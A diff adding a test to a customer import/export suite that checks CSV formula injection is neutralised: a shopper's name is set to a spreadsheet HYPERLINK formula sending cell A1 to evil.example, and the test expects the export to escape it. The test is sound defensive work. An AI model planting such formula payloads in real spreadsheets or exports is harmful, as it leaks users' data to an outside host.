@@ -150,6 +150,18 @@ describe('customers.import', () => {
     expect(byEmail('jane.doe@example.com')?.first_name).toBe('Janet')
   })
 
+  it('writes a shopper’s formula-like name as text, and re-imports it unchanged (OWASP CSV injection)', async () => {
+    const jane = byEmail('jane.doe@example.com') as Customer
+    jane.first_name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    jane.last_name = '+1+1'
+    const exported = await downloaded(await runCommand('customers.export', { given: { q: undefined, hasAccount: 'any', groupIds: undefined } }))
+    const line = exported.text.split('\r\n').find((l) => l.includes('jane.doe@example.com')) ?? ''
+    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`)
+    expect(line).toContain(",'+1+1,")
+    const run = await runCommand('customers.import', { answers: { file: csvFile(exported.text), preview: pick('', 'x') } })
+    expect(run.outcome).toMatchObject({ status: 'search-failed', message: 'Nothing to write: 0 to create, 0 to update, 8 unchanged' })
+  })
+
   it('re-imports its own export as unchanged', async () => {
     const exported = await downloaded(await runCommand('customers.export', { given: { q: undefined, hasAccount: 'any', groupIds: undefined } }))
     const run = await runCommand('customers.import', { answers: { file: csvFile(exported.text), preview: pick('', 'x') } })
